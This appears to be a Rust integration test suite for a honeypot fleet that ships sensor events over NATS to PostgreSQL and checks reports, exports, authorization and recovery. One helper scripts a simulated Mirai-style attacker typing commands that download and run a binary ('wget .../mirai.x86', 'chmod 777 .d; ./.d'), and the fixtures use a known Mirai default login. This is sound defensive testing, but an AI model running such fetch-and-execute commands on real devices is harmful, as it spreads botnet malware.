//! The fleet on its real engines: sensors ship over Debian's nats-server (JetStream),
//! `busybait collect` writes PostgreSQL, and the read side gives the same answers
//! from either store. Every engine runs on 127.0.0.1, started here.

#![allow(
    clippy::indexing_slicing,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::print_stdout
)]

mod util;

use std::path::Path;
use std::process::Command;
use std::time::Duration;

use busybait_fleet::line::EventLine;
use busybait_fleet::pg::write::{Incoming, Writer};
use util::fleet::{
    events_when_closed, fleet_config, read_side, visit, wait_until, Collector, Nats, Postgres,
};
use util::{source, Sensor};

const STEP: Duration = Duration::from_secs(10);

/// The read-only role of docs/FLEET.md, as given there.
const READER_ROLE: &str = "CREATE ROLE reader LOGIN;
GRANT CONNECT ON DATABASE fleet TO reader;
GRANT USAGE ON SCHEMA public TO reader;
GRANT SELECT ON ALL TABLES IN SCHEMA public TO reader;
ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO reader;";

/// A NATS client as `user` (its inbox prefix `_INBOX_<user>` for a sensor's user).
async fn connect_as(url: String, user: &str, password: &str) -> async_nats::Client {
    let mut options =
        async_nats::ConnectOptions::with_user_and_password(user.into(), password.into());
    if user.starts_with("sensor-") {
        options = options.custom_inbox_prefix(format!("_INBOX_{user}"));
    }
    options.connect(url).await.unwrap()
}

/// A loader's visit: a download it asks for and a binary it writes by echo.
fn loader_visit(sensor: &Sensor, src: usize) {
    let mut c = sensor.connect_from(source(src));
    c.login();
    for line in [
        "cd /tmp; wget http://127.0.0.1:8/bins/mirai.x86 -O dvrHelper",
        "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00' > .d; chmod 777 .d; ./.d",
        "/bin/busybox ECCHI",
    ] {
        c.send(format!("{line}\r\n").as_bytes());
        c.read_until(b"# ", STEP);
    }
    c.send(b"exit\r\n");
    c.read_to_close(STEP);
}

/// The SHA-256 of what the fleet's bucket holds under `name`, or `None`.
fn bucket_object_hash(nats_url: &str, name: &str) -> Option<String> {
    use sha2::Digest;
    use tokio::io::AsyncReadExt;
    let runtime = tokio::runtime::Runtime::new().unwrap();
    runtime.block_on(async {
        let client = async_nats::connect(nats_url).await.unwrap();
        let js = async_nats::jetstream::new(client);
        let store = js.get_object_store("BUSYBAIT_SAMPLES").await.unwrap();
        let mut object = store.get(name).await.ok()?;
        let mut content = Vec::new();
        object.read_to_end(&mut content).await.ok()?;
        Some(hex::encode(sha2::Sha256::digest(&content)))
    })
}

fn local_events(dir: &Path) -> usize {
    util::read_events(dir).len()
}

/// The name a sensor's events carry (`sensor`).
fn sensor_name(dir: &Path) -> String {
    util::read_events(dir)[0]["sensor"]
        .as_str()
        .unwrap()
        .to_string()
}

fn sensor_id(dir: &Path) -> String {
    let text = std::fs::read_to_string(dir.join("sensor.toml")).unwrap();
    text.lines()
        .find_map(|l| l.strip_prefix("uuid = "))
        .unwrap()
        .trim_matches('"')
        .to_string()
}

#[test]
fn two_sensors_sessions_reach_postgres_once_and_read_back_as_on_their_data_dirs() {
    let pg = Postgres::start();
    let nats = Nats::start();
    let collector = Collector::start(&nats.url(), &pg.url());
    let a = Sensor::start_with(&fleet_config(&nats));
    let b = Sensor::start_with(&fleet_config(&nats));
    visit(&a, 1);
    visit(&a, 2);
    visit(&b, 3);
    let (na, nb) = (events_when_closed(&a, 2), events_when_closed(&b, 1));
    let (ida, idb) = (sensor_id(a.data_dir.path()), sensor_id(b.data_dir.path()));
    wait_until("every event in PostgreSQL", || {
        pg.query("SELECT count(*) FROM events") == [(na + nb).to_string()]
    });
    // Each sensor's numbering, whole and once, under the sensor its subject named.
    for (id, n) in [(&ida, na), (&idb, nb)] {
        assert_eq!(
            pg.query(&format!(
                "SELECT count(*), count(DISTINCT seq), min(seq), max(seq) FROM events WHERE sensor = '{id}'"
            )),
            [format!("{n}|{n}|1|{n}")]
        );
    }
    assert_eq!(
        pg.query("SELECT sensor, last_seq FROM sensors ORDER BY sensor"),
        {
            let mut want = vec![format!("{ida}|{na}"), format!("{idb}|{nb}")];
            want.sort();
            want
        }
    );

    // The read side, as the read-only role docs/FLEET.md sets up: the fleet's
    // sessions are the union of the sensors', in the same order and the same fields.
    for statement in READER_ROLE.split(';').filter(|s| !s.trim().is_empty()) {
        pg.query(statement);
    }
    let refused = pg.query_as("reader", "DELETE FROM sessions");
    assert!(
        refused
            .as_ref()
            .is_err_and(|e| e.contains("permission denied")),
        "{refused:?}"
    );
    let fleet_sessions = read_side(&pg.url_as("reader"), &["sessions", "--json"]);
    let mut local: Vec<String> = [&a, &b]
        .iter()
        .flat_map(|s| {
            read_side(s.data_dir.path().to_str().unwrap(), &["sessions", "--json"])
                .lines()
                .map(str::to_string)
                .collect::<Vec<_>>()
        })
        .collect();
    let start_of = |l: &String| {
        let v: serde_json::Value = serde_json::from_str(l).unwrap();
        (
            v["start_time"].as_str().unwrap().to_string(),
            v["session"].as_str().unwrap().to_string(),
        )
    };
    local.sort_by_key(|l| std::cmp::Reverse(start_of(l)));
    assert_eq!(fleet_sessions.lines().collect::<Vec<_>>(), local);
    assert_eq!(local.len(), 3);
    // A span: every session that started in it, from either store.
    let middle = start_of(&local[1]).0;
    let reader = pg.url_as("reader");
    assert_eq!(
        read_side(&reader, &["sessions", "--json", "--since", &middle]),
        format!("{}\n{}\n", local[0], local[1])
    );
    assert_eq!(
        read_side(
            &reader,
            &["sessions", "--json", "--until", &middle, "--limit", "1000"]
        ),
        format!("{}\n", local[2])
    );
    let first: serde_json::Value = serde_json::from_str(&local[0]).unwrap();
    assert_eq!(first["login_failures"], 1);
    assert_eq!(first["username"], "root");
    let session = first["session"].as_str().unwrap();
    let owner = if read_side(a.data_dir.path().to_str().unwrap(), &["sessions", "--json"])
        .contains(session)
    {
        &a
    } else {
        &b
    };
    assert_eq!(
        read_side(&pg.url(), &["show", session]),
        read_side(owner.data_dir.path().to_str().unwrap(), &["show", session])
    );

    // Reports by sensor: the fleet's report of one sensor is that sensor's own, and
    // `--by-sensor` gives each; a data dir knows only its own sensor.
    let mut by_sensor = Vec::new();
    for (sensor, id) in [(&a, &ida), (&b, &idb)] {
        let dir = sensor.data_dir.path().to_str().unwrap();
        let own = read_side(dir, &["report", "--json"]);
        assert_eq!(
            read_side(&reader, &["report", "--json", "--sensor", id]),
            own
        );
        assert_eq!(read_side(dir, &["report", "--json", "--sensor", id]), own);
        let other = if id == &ida { &idb } else { &ida };
        let none: serde_json::Value =
            serde_json::from_str(&read_side(dir, &["report", "--json", "--sensor", other]))
                .unwrap();
        assert_eq!(none["sessions"], 0, "{none}");
        let name = sensor_name(sensor.data_dir.path());
        by_sensor.push((
            id.clone(),
            name,
            serde_json::from_str::<serde_json::Value>(&own).unwrap(),
        ));
    }
    by_sensor.sort_by(|x, y| x.0.cmp(&y.0));
    let listed: serde_json::Value =
        serde_json::from_str(&read_side(&reader, &["report", "--json", "--by-sensor"])).unwrap();
    let want: Vec<serde_json::Value> = by_sensor
        .into_iter()
        .map(|(sensor, name, report)| serde_json::json!({"sensor": sensor, "name": name, "report": report}))
        .collect();
    assert_eq!(listed, serde_json::Value::Array(want));
    let whole: serde_json::Value =
        serde_json::from_str(&read_side(&reader, &["report", "--json"])).unwrap();
    assert_eq!(whole["sessions"], 3);
    // `sessions --sensor`: one sensor's sessions, as its own data dir lists them.
    for (sensor, id) in [(&a, &ida), (&b, &idb)] {
        let dir = sensor.data_dir.path().to_str().unwrap();
        assert_eq!(
            read_side(&reader, &["sessions", "--json", "--sensor", id]),
            read_side(dir, &["sessions", "--json"])
        );
    }
    // The console's session list of one sensor of the fleet.
    let (_console, web) = util::web::start_console(&["--store", &reader], &[]);
    for (sensor, id) in [(&a, &ida), (&b, &idb)] {
        let page = util::web::get(web, &format!("/sessions?sensor={id}"));
        let own = read_side(
            sensor.data_dir.path().to_str().unwrap(),
            &["sessions", "--json"],
        );
        for line in local.iter() {
            let session = start_of(line).1;
            assert_eq!(
                page.body.contains(&format!("href=\"/sessions/{session}\"")),
                own.contains(&session),
                "{session} on {id}'s list"
            );
        }
    }
    assert!(!collector.log().contains("refused"), "{}", collector.log());
}

#[test]
fn report_exports_and_watch_read_the_fleet_store_as_the_sensors_own() {
    let pg = Postgres::start();
    let nats = Nats::start();
    let _collector = Collector::start(&nats.url(), &pg.url());
    // Sources with a country and AS (127.1.0.3: FR, AS64500) reach the fleet too.
    let dbs = tempfile::tempdir().unwrap();
    util::geoip_databases(dbs.path(), false);
    let sensor = Sensor::start_with(&format!(
        "{}[geoip]\ndatabases = [\"{}\", \"{}\"]\n",
        fleet_config(&nats),
        dbs.path().join("country.mmdb").display(),
        dbs.path().join("asn.mmdb").display()
    ));
    visit(&sensor, 1);
    loader_visit(&sensor, 2);
    loader_visit(&sensor, 3);
    let events = sensor.wait_for_events("both loaders' labels and closes", |evs| {
        let count = |id: &str| evs.iter().filter(|e| e["eventid"] == id).count();
        count("cowrie.session.closed") == 3 && count("busybait.session.family") >= 3
    });
    assert!(events
        .iter()
        .any(|e| e["eventid"] == "busybait.sample.triage"));
    assert!(events
        .iter()
        .any(|e| e["eventid"] == "busybait.download.request"));
    let n = local_events(sensor.data_dir.path());
    wait_until("every event in PostgreSQL", || {
        pg.query("SELECT count(*) FROM events") == [n.to_string()]
    });
    // Every sample the events name is in the bucket, and is what its name says.
    let shas: std::collections::BTreeSet<String> = events
        .iter()
        .filter(|e| e["eventid"] == "cowrie.session.file_download")
        .map(|e| e["shasum"].as_str().unwrap().to_string())
        .collect();
    assert!(!shas.is_empty());
    for sha in &shas {
        assert_eq!(bucket_object_hash(&nats.url(), sha).as_ref(), Some(sha));
    }
    let dir = sensor.data_dir.path().to_str().unwrap().to_string();
    let mut outputs = vec![vec!["report", "--json"], vec!["sessions", "--json"]];
    for format in ["csv", "ips", "urls", "hashes", "stix", "misp"] {
        outputs.push(vec!["export", "--include-private", "--format", format]);
    }
    for args in outputs {
        let local = read_side(&dir, &args);
        assert!(!local.trim().is_empty(), "{args:?}: nothing to compare");
        assert_eq!(read_side(&pg.url(), &args), local, "{args:?}");
    }
    assert!(
        read_side(&pg.url(), &["report", "--json"])
            .contains("\"value\": \"AS64500 Example Fleet\""),
        "the fleet's report has the source's AS"
    );

    // The console over either store shows the same pages.
    let (_local, local_web) = util::web::start_console(&["--data-dir", &dir], &[]);
    let (_fleet, fleet_web) = util::web::start_console(&["--store", &pg.url()], &[]);
    for path in [
        "/?span=all",
        "/sessions",
        "/indicators?span=all",
        "/samples?span=all",
        "/export/stix?span=all",
        "/export/misp?span=all",
    ] {
        let local = util::web::get(local_web, path);
        assert_eq!(local.status, 200, "{path}");
        let fleet = util::web::get(fleet_web, path);
        // The overview says when it was counted: the one line that may differ.
        let uncounted = |body: &str| match body.split_once("<p class=\"note\">Counted at ") {
            Some((before, after)) => {
                format!(
                    "{before}{}",
                    after.split_once("</p>").map_or("", |(_, rest)| rest)
                )
            }
            None => body.to_string(),
        };
        assert_eq!(uncounted(&fleet.body), uncounted(&local.body), "{path}");
    }
    let sensors = util::web::get(fleet_web, "/sensors");
    assert!(sensors.body.contains(&format!(
        "<td><code>{}</code></td>",
        sensor_id(sensor.data_dir.path())
    )));
    // A watcher's alert (as `watch --fleet` publishes it) stored by the collector,
    // once however often it comes, and on the fleet's alerts page.
    let alert = serde_json::json!({
        "alert": "trap-attacker", "signature_id": 9_100_020, "severity": "medium",
        "title": "traffic from an address that attacked the trap",
        "src_ip": "127.1.0.3", "src_port": null, "dst_ip": "127.0.0.9", "dst_port": null,
        "protocol": "ip", "count": 4, "targets": 1,
        "first": "2026-12-05T07:00:00.000000Z", "last": "2026-12-05T07:00:01.000000Z",
        "rate": null, "evidence": [], "capture": "interface:eth0"
    });
    // Twice, then another: once that one is stored, the second copy was seen too.
    let mut later = alert.clone();
    later["src_ip"] = "127.1.0.4".into();
    tokio::runtime::Runtime::new().unwrap().block_on(async {
        let client = async_nats::connect(nats.url()).await.unwrap();
        for a in [&alert, &alert, &later] {
            client
                .publish(
                    "busybait.alerts.watch",
                    serde_json::to_vec(a).unwrap().into(),
                )
                .await
                .unwrap();
        }
        client.flush().await.unwrap();
    });
    wait_until("the alerts in PostgreSQL", || {
        pg.query("SELECT count(*) FROM alerts WHERE src_ip = '127.1.0.4'") == ["1"]
    });
    assert_eq!(
        pg.query("SELECT watcher, alert, src_ip, capture FROM alerts ORDER BY src_ip"),
        [
            "watch|trap-attacker|127.1.0.3|interface:eth0",
            "watch|trap-attacker|127.1.0.4|interface:eth0"
        ]
    );
    let alerts = util::web::get(fleet_web, "/alerts?span=all");
    assert!(alerts.body.contains("trap-attacker"), "{}", alerts.body);
    assert!(alerts.body.contains("interface:eth0"), "{}", alerts.body);

    // Each session's recording reaches the fleet once the session closed and its
    // recording finished: the console plays the same from either store (and offers
    // it on the session's page), and `replay` prints the same.
    let closed: Vec<String> = events
        .iter()
        .filter(|e| e["eventid"] == "cowrie.session.closed")
        .map(|e| e["session"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(closed.len(), 3);
    for id in &closed {
        let cast = format!("/sessions/{id}/cast");
        // The fleet gets a recording once it is finished, some time after the close:
        // only then is the local one whole too.
        wait_until("the recording in PostgreSQL", || {
            util::web::get(fleet_web, &cast).status == 200
        });
        let local = util::web::get(local_web, &cast);
        assert_eq!(local.status, 200, "{cast}");
        assert!(local.body.contains("\"version\":2"), "{}", local.body);
        assert_eq!(util::web::get(fleet_web, &cast).body, local.body, "{cast}");
        let page = util::web::get(fleet_web, &format!("/sessions/{id}"));
        assert!(
            page.body.contains(&cast),
            "the fleet's session page plays it"
        );
        let replay = ["replay", id.as_str(), "--speed", "1000"];
        assert_eq!(
            read_side(&pg.url(), &replay),
            read_side(&dir, &replay),
            "{id}"
        );
    }
    assert_eq!(
        pg.query("SELECT count(DISTINCT session) FROM recording_parts"),
        [closed.len().to_string()]
    );

    // What the fleet learned, matched in another network's capture by a `watch`
    // with an empty data dir of its own: a device there fetches the loader's file.
    let mut cap = busybait_pcapgen::Capture::default();
    busybait_pcapgen::tcp_session(
        &mut cap,
        ("10.0.0.7".parse().unwrap(), 40_000),
        ("127.0.0.1".parse().unwrap(), 8),
        &[(
            true,
            b"GET /bins/mirai.x86 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        )],
        1_790_000_000.0,
    );
    let elsewhere = tempfile::tempdir().unwrap();
    let file = elsewhere.path().join("capture.pcap");
    std::fs::write(&file, cap.bytes()).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_busybait"))
        .args(["watch", "--json", "--no-store", "--pcap"])
        .arg(&file)
        .arg("--data-dir")
        .arg(elsewhere.path())
        .args(["--learned-from", &pg.url()])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let alerts: Vec<(&str, &str)> = report[0]["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| (a["id"].as_str().unwrap(), a["src"].as_str().unwrap()))
        .collect();
    assert_eq!(alerts, [("trap-download-host", "10.0.0.7")], "{stderr}");
}

#[test]
fn a_sensor_ships_what_it_recorded_while_nats_was_down_in_order() {
    let pg = Postgres::start();
    let mut nats = Nats::start();
    let _collector = Collector::start(&nats.url(), &pg.url());
    let sensor = Sensor::start_with(&fleet_config(&nats));
    visit(&sensor, 1);
    let n1 = events_when_closed(&sensor, 1);
    wait_until("the first session in PostgreSQL", || {
        pg.query("SELECT count(*) FROM events") == [n1.to_string()]
    });
    // The stream's server goes away; the sensor goes on recording.
    nats.kill();
    visit(&sensor, 2);
    let n2 = events_when_closed(&sensor, 2);
    assert_eq!(local_events(sensor.data_dir.path()), n2);
    // The shipper notices (its batch is not acknowledged) and keeps the events.
    wait_until("the shipper to notice", || {
        sensor.log().contains("shipping failed")
    });
    nats.restart();
    wait_until("the outage's events in PostgreSQL", || {
        pg.query("SELECT count(*) FROM events") == [n2.to_string()]
    });
    assert_eq!(
        pg.query("SELECT count(DISTINCT seq), min(seq), max(seq) FROM events"),
        [format!("{n2}|1|{n2}")]
    );
    // The collector can store a pack before the sensor has the stream's acknowledgement
    // for it; the sensor says so once it has.
    wait_until("the shipper to say it ships again", || {
        sensor.log().contains("shipping again")
    });
}

#[test]
fn a_message_claiming_another_sensor_or_malformed_is_refused_and_stores_nothing() {
    let pg = Postgres::start();
    let nats = Nats::start();
    let collector =
        Collector::start_with(&nats.url(), &pg.url(), &["--metrics", "127.0.0.1:0"], &[]);
    let line = |uuid: &str, seq: u64| {
        format!(
            r#"{{"eventid":"cowrie.session.connect","session":"0123456789ab","protocol":"telnet","src_ip":"198.51.100.7","src_port":4000,"dst_ip":"127.0.0.1","dst_port":23,"message":"m","sensor":"s","uuid":"{uuid}","timestamp":"2026-12-05T01:02:03.000000Z","seq":{seq}}}"#
        )
    };
    let runtime = tokio::runtime::Runtime::new().unwrap();
    runtime.block_on(async {
        let client = async_nats::connect(nats.url()).await.unwrap();
        let js = async_nats::jetstream::new(client);
        for (subject, payload) in [
            // Sensor s2 claims to be s1.
            ("busybait.events.s2", line("s1", 1)),
            ("busybait.events.s2", "not json".to_string()),
            // A pack of s2's whose second line claims s1: refused whole.
            (
                "busybait.events.s2",
                format!("{}\n{}", line("s2", 1), line("s1", 2)),
            ),
            // Then the honest pack, last: when it is stored the others were handled.
            (
                "busybait.events.s1",
                format!("{}\n{}\n{}", line("s1", 1), line("s1", 2), line("s1", 3)),
            ),
        ] {
            js.publish(subject, payload.into())
                .await
                .unwrap()
                .await
                .unwrap();
        }
    });
    wait_until("the honest events", || {
        pg.query("SELECT count(*) FROM events") == ["3"]
    });
    assert_eq!(
        pg.query("SELECT sensor, seq FROM events ORDER BY seq"),
        ["s1|1", "s1|2", "s1|3"]
    );
    let log = collector.log();
    assert!(
        log.contains("reason=\"sensor_mismatch\"") || log.contains("reason=sensor_mismatch"),
        "{log}"
    );
    assert!(log.contains("malformed"), "{log}");
    // Counted on the collector's metrics page: the stored pack once the write returned,
    // which can be after PostgreSQL shows its rows.
    let metrics = collector.metrics.unwrap();
    wait_until("the stored pack counted", || {
        util::scrape(metrics, "/metrics")
            .1
            .lines()
            .any(|l| l == "busybait_collect_batches_total 1")
    });
    let (status, body) = util::scrape(metrics, "/metrics");
    assert_eq!(status, "HTTP/1.1 200 OK");
    util::promtool_check(&body);
    for line in [
        "busybait_collect_rejected_total{reason=\"sensor_mismatch\"} 2",
        "busybait_collect_rejected_total{reason=\"malformed\"} 1",
        "busybait_collect_rejected_total{reason=\"oversized\"} 0",
        "busybait_collect_events_total{kind=\"new\"} 3",
        "busybait_collect_batches_total 1",
    ] {
        assert!(body.lines().any(|l| l == line), "no {line:?} in\n{body}");
    }
}

fn incoming(sensor: &str, seq: u64, ts: &str, eventid: &str, extra: serde_json::Value) -> Incoming {
    let mut v = serde_json::json!({
        "eventid": eventid, "session": "00000000abcd", "protocol": "telnet",
        "src_ip": "198.51.100.7", "src_port": 40000, "dst_ip": "127.0.0.1", "dst_port": 23,
        "message": "m", "sensor": "test", "uuid": sensor, "timestamp": ts, "seq": seq,
    });
    for (k, val) in extra.as_object().unwrap() {
        v[k] = val.clone();
    }
    let json = v.to_string();
    let line: EventLine = busybait_fleet::line::parse(sensor, json.as_bytes()).unwrap();
    Incoming {
        sensor: sensor.to_string(),
        line,
        json,
    }
}

#[test]
fn a_sample_that_is_not_what_its_name_says_is_deleted() {
    let pg = Postgres::start();
    let nats = Nats::start();
    let collector = Collector::start(&nats.url(), &pg.url());
    // A name that is the SHA-256 of something else, with garbage under it, and an
    // event that names it.
    let name = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(b"the real sample"));
    let event = format!(
        r#"{{"eventid":"cowrie.session.file_download","session":"0123456789ab","protocol":"telnet","src_ip":"198.51.100.7","src_port":4000,"dst_ip":"127.0.0.1","dst_port":23,"url":"http://127.0.0.1/x","outfile":"o","shasum":"{name}","destfile":"/tmp/x","duplicate":false,"message":"m","sensor":"s","uuid":"s9","timestamp":"2026-12-05T01:02:03.000000Z","seq":1}}"#
    );
    let runtime = tokio::runtime::Runtime::new().unwrap();
    runtime.block_on(async {
        let client = async_nats::connect(nats.url()).await.unwrap();
        let js = async_nats::jetstream::new(client);
        let store = js.get_object_store("BUSYBAIT_SAMPLES").await.unwrap();
        store
            .put(name.as_str(), &mut &b"not that at all"[..])
            .await
            .unwrap();
        js.publish("busybait.events.s9", event.into())
            .await
            .unwrap()
            .await
            .unwrap();
    });
    wait_until("the false sample deleted", || {
        collector
            .log()
            .contains("a sample does not hash to its name")
    });
    assert_eq!(bucket_object_hash(&nats.url(), &name), None);
    // The event itself is kept: it is what the sensor saw.
    assert_eq!(pg.query("SELECT count(*) FROM files"), ["1"]);
}

#[test]
fn storing_events_again_or_out_of_order_gives_the_same_rows() {
    use serde_json::json;
    let pg = Postgres::start();
    let session = vec![
        incoming(
            "s1",
            1,
            "2026-11-30T23:59:59.000000Z",
            "cowrie.session.connect",
            json!({}),
        ),
        incoming(
            "s1",
            2,
            "2026-12-01T00:00:01.000000Z",
            "cowrie.login.failed",
            json!({"username": "admin", "password": "admin"}),
        ),
        incoming(
            "s1",
            3,
            "2026-12-01T00:00:02.000000Z",
            "cowrie.login.success",
            json!({"username": "root", "password": "xc3511"}),
        ),
        incoming(
            "s1",
            4,
            "2026-12-01T00:00:03.000000Z",
            "cowrie.command.input",
            json!({"input": "enable"}),
        ),
        incoming(
            "s1",
            5,
            "2026-12-01T00:00:04.000000Z",
            "cowrie.command.input",
            json!({"input": "/bin/busybox ECCHI"}),
        ),
        incoming(
            "s1",
            6,
            "2026-12-01T00:00:05.000000Z",
            "cowrie.session.file_download",
            json!({"url": "http://127.0.0.1/x", "shasum": "ab", "destfile": "/tmp/x", "outfile": "o", "duplicate": false}),
        ),
        incoming(
            "s1",
            7,
            "2026-12-01T00:00:06.000000Z",
            "busybait.session.family",
            json!({"family": "mirai", "sub_label": "ECCHI", "confidence": 0.6}),
        ),
        incoming(
            "s1",
            8,
            "2026-12-01T00:00:07.000000Z",
            "busybait.session.family",
            json!({"family": "mirai", "sub_label": "ECCHI", "confidence": 0.9}),
        ),
        incoming(
            "s1",
            9,
            "2026-12-01T00:00:08.000000Z",
            "cowrie.session.closed",
            json!({"duration_ms": 9000}),
        ),
    ];
    let rows = |pg: &Postgres| {
        [
            "SELECT protocol, src_ip, src_port, start_time, end_time, duration_ms, username, password, login_failures, commands, family, family_label, family_confidence FROM sessions",
            "SELECT count(*) FROM events",
            "SELECT day, sessions, sources, logins_tried, logins_accepted FROM daily ORDER BY day",
            "SELECT sha256, first_seen, last_seen, times_seen FROM samples",
            "SELECT count(*) FROM commands",
            "SELECT count(*) FROM logins",
        ]
        .iter()
        .flat_map(|q| pg.query(q))
        .collect::<Vec<_>>()
    };
    let runtime = tokio::runtime::Runtime::new().unwrap();
    runtime.block_on(async {
        let mut client = busybait_fleet::pg::connect(&pg.url()).await.unwrap();
        busybait_fleet::pg::schema::migrate(&mut client)
            .await
            .unwrap();
        // A second migration (another collector starting) changes nothing.
        busybait_fleet::pg::schema::migrate(&mut client)
            .await
            .unwrap();
        for month in ["2026-11", "2026-12"] {
            busybait_fleet::pg::schema::ensure_month(&mut client, month)
                .await
                .unwrap();
        }
        let writer = Writer::prepare(&client).await.unwrap();
        // Newest first, one event per transaction: the close before the connect.
        for e in session.iter().rev() {
            let w = writer
                .write(&mut client, std::slice::from_ref(e))
                .await
                .unwrap();
            assert_eq!((w.new, w.duplicates), (1, 0));
        }
    });
    let once = rows(&pg);
    assert_eq!(
        once,
        [
            "telnet|198.51.100.7|40000|2026-11-30T23:59:59.000000Z|2026-12-01T00:00:08.000000Z|9000|root|xc3511|1|2|mirai|ECCHI|0.9",
            "9",
            "2026-11-30|1|1|0|0",
            "2026-12-01|0|0|2|1",
            "ab|2026-12-01T00:00:05.000000Z|2026-12-01T00:00:05.000000Z|1",
            "2",
            "2",
        ]
    );
    // Everything again in one batch, and twice within it: long after any NATS
    // duplicate window, the rows are the identity.
    runtime.block_on(async {
        let mut client = busybait_fleet::pg::connect(&pg.url()).await.unwrap();
        let writer = Writer::prepare(&client).await.unwrap();
        let twice: Vec<Incoming> = session.iter().chain(session.iter()).cloned().collect();
        let w = writer.write(&mut client, &twice).await.unwrap();
        assert_eq!((w.new, w.duplicates), (0, 18));
    });
    assert_eq!(rows(&pg), once);
    // A PostgreSQL restart loses nothing that committed.
    pg.restart();
    assert_eq!(rows(&pg), once);
}

/// The roles of `packaging/nats/authorization.conf`, as a sensor and a collector use
/// them, and as a sensor that tries more is refused.
#[test]
fn with_the_shipped_authorization_a_sensor_publishes_only_as_itself_and_reads_nothing() {
    let pg = Postgres::start();
    let nats = Nats::start_with_authorization(&[
        ("BUSYBAIT_COLLECT_PASSWORD", "collect-pw"),
        ("BUSYBAIT_SENSOR_1_PASSWORD", "s1-pw"),
        ("BUSYBAIT_SENSOR_2_PASSWORD", "s2-pw"),
        ("BUSYBAIT_WATCH_PASSWORD", "watch-pw"),
    ]);
    let collector = Collector::start_as(&nats.url(), &pg.url(), Some(("collect", "collect-pw")));
    // A watcher listening to what every sensor learns, from before the sensor starts.
    let watcher = tokio::runtime::Runtime::new().unwrap();
    let (_watch, mut learned) = watcher.block_on(async {
        let client = connect_as(nats.url(), "watch", "watch-pw").await;
        let learned = client.subscribe("busybait.indicators.*").await.unwrap();
        client.flush().await.unwrap();
        (client, learned)
    });
    // Sensor 1 as the operator sets it up: its id in sensor.toml, its user and
    // password in [fleet].
    let data = tempfile::tempdir().unwrap();
    std::fs::write(
        data.path().join("sensor.toml"),
        "uuid = \"sensor-1\"\nseed = 7\n",
    )
    .unwrap();
    let sensor = Sensor::start_in(
        data,
        &format!(
            "{}user = \"sensor-1\"\npassword = \"s1-pw\"\n",
            fleet_config(&nats)
        ),
    );
    loader_visit(&sensor, 1);
    let events = sensor.wait_for_events("the close", |evs| {
        evs.iter().any(|e| e["eventid"] == "cowrie.session.closed")
            && evs
                .iter()
                .any(|e| e["eventid"] == "busybait.session.family")
    });
    let n = events.len();
    let sample = events
        .iter()
        .find(|e| e["eventid"] == "cowrie.session.file_download")
        .map(|e| e["shasum"].as_str().unwrap().to_string())
        .unwrap();
    wait_until("sensor-1's events in PostgreSQL", || {
        pg.query("SELECT count(*) FROM events") == [n.to_string()]
    });

    // Its sample went up with its own credentials.
    let collector_view = {
        let runtime = tokio::runtime::Runtime::new().unwrap();
        runtime.block_on(async {
            let client = connect_as(nats.url(), "collect", "collect-pw").await;
            let js = async_nats::jetstream::new(client);
            let store = js.get_object_store("BUSYBAIT_SAMPLES").await.unwrap();
            store.info(&sample).await.map(|i| i.size).ok()
        })
    };
    assert!(
        collector_view.is_some_and(|size| size > 0),
        "{sample} not in the bucket"
    );
    // What it learned, on its own indicators subject: the loader's address, the URL
    // it fetched and its host, the sample.
    let indicators = watcher.block_on(async {
        use futures_util::StreamExt;
        let mut seen: Vec<(String, String, String)> = Vec::new();
        let deadline = tokio::time::Instant::now() + STEP * 3;
        while !seen
            .iter()
            .any(|(_, kind, value)| kind == "sha256" && *value == sample)
        {
            let Ok(Some(m)) = tokio::time::timeout_at(deadline, learned.next()).await else {
                break;
            };
            let i: busybait_fleet::indicators::Indicator =
                serde_json::from_slice(&m.payload).unwrap();
            seen.push((m.subject.to_string(), i.kind, i.value));
        }
        seen
    });
    let url = events
        .iter()
        .find(|e| e["eventid"] == "busybait.download.request")
        .map(|e| e["url"].as_str().unwrap().to_string())
        .unwrap();
    let host = busybait_store::report::url_host(&url).unwrap();
    let src = events[0]["src_ip"].as_str().unwrap().to_string();
    for (kind, value) in [
        ("ip", &src),
        ("url", &url),
        ("host", &host),
        ("sha256", &sample),
    ] {
        assert!(
            indicators
                .iter()
                .any(|(s, k, v)| s == "busybait.indicators.sensor-1" && k == kind && v == value),
            "{kind} {value} not among {indicators:?}"
        );
    }
    // Sensor 1's credentials used for more than shipping its own events.
    let runtime = tokio::runtime::Runtime::new().unwrap();
    runtime.block_on(async {
        let client = connect_as(nats.url(), "sensor-1", "s1-pw").await;
        client
            .publish("busybait.events.sensor-2", "{}".into())
            .await
            .unwrap();
        client
            .publish("busybait.indicators.sensor-2", "{}".into())
            .await
            .unwrap();
        let _others = client.subscribe("busybait.events.>").await.unwrap();
        let _replies = client.subscribe("_INBOX.>").await.unwrap();
        let _api = client.subscribe("$JS.API.>").await.unwrap();
        client.flush().await.unwrap();
    });
    // The watcher may only listen.
    watcher.block_on(async {
        let client = connect_as(nats.url(), "watch", "watch-pw").await;
        client
            .publish("busybait.indicators.sensor-1", "{}".into())
            .await
            .unwrap();
        client.flush().await.unwrap();
    });
    wait_until("the server to refuse all six", || {
        let log = nats.log();
        [
            "Publish Violation - User \"sensor-1\", Subject \"busybait.events.sensor-2\"",
            "Publish Violation - User \"sensor-1\", Subject \"busybait.indicators.sensor-2\"",
            "Publish Violation - User \"watch\", Subject \"busybait.indicators.sensor-1\"",
            "Subscription Violation - User \"sensor-1\", Subject \"busybait.events.>\"",
            "Subscription Violation - User \"sensor-1\", Subject \"_INBOX.>\"",
            "Subscription Violation - User \"sensor-1\", Subject \"$JS.API.>\"",
        ]
        .iter()
        .all(|v| log.contains(v))
    });
    // A wrong password is not a connection.
    let refused = runtime.block_on(
        async_nats::ConnectOptions::with_user_and_password("sensor-2".into(), "s1-pw".into())
            .connect(nats.url()),
    );
    assert!(refused.is_err());
    // Nothing but sensor 1's own events reached the store.
    assert_eq!(
        pg.query("SELECT sensor, count(*) FROM events GROUP BY sensor"),
        [format!("sensor-1|{n}")]
    );
    assert!(!collector.log().contains("refused"), "{}", collector.log());
}

